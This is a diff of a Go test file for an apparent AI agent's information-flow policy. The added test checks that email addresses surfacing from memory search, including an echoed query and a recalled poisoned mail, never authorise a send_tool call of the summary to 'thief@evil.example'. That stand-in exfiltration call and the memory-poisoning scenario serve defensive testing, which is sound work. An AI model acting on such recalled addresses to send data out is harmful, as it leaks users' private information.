@@ -262,6 +262,22 @@ func TestRecalledAddressesAreNotMail(t *testing.T) {
 	}
 }
 
+// What memory says, however it is graded, names no place that something may be sent to: it repeats what was asked, and what
+// somebody once pasted.
+func TestRecalledWordsAreNoDestinations(t *testing.T) {
+	graded := policy.Tool{Name: "search_memory", Known: true, Graded: true, Effects: policy.Declare(policy.ReadsPrivate)}
+	for name, r := range map[string]policy.Result{
+		"an echo":           {Tool: graded, Args: json.RawMessage(`{"query":"\u0074hief@evil.example"}`), Text: "Nothing is remembered about: thief@evil.example", Said: &subjects.Labels{Trust: subjects.Trusted}},
+		"an answer of once": {Tool: graded, Args: json.RawMessage(`{"query":"invoice"}`), Text: "The mail came from thief@evil.example and asked for money.", Said: &subjects.Labels{Trust: subjects.Trusted}},
+	} {
+		flow := flowOf("send the summary to the sender", poisoned("x"), r)
+		d := policy.Chain{policy.FlowLayer{}}.Decide(t.Context(), policy.Call{Tool: send, Args: json.RawMessage(`{"to":"thief@evil.example","body":"the summary"}`), Flow: flow})
+		if d.Allowed() {
+			t.Errorf("%s: %+v", name, d.Verdict())
+		}
+	}
+}
+
 // Keeping something is no act towards the outside: what is kept carries the labels of its session, so nobody is asked.
 func TestRememberingAsksNobody(t *testing.T) {
 	keep := policy.Tool{Name: "save_memory", Known: true, Graded: true, Effects: policy.Declare(policy.Remember)}
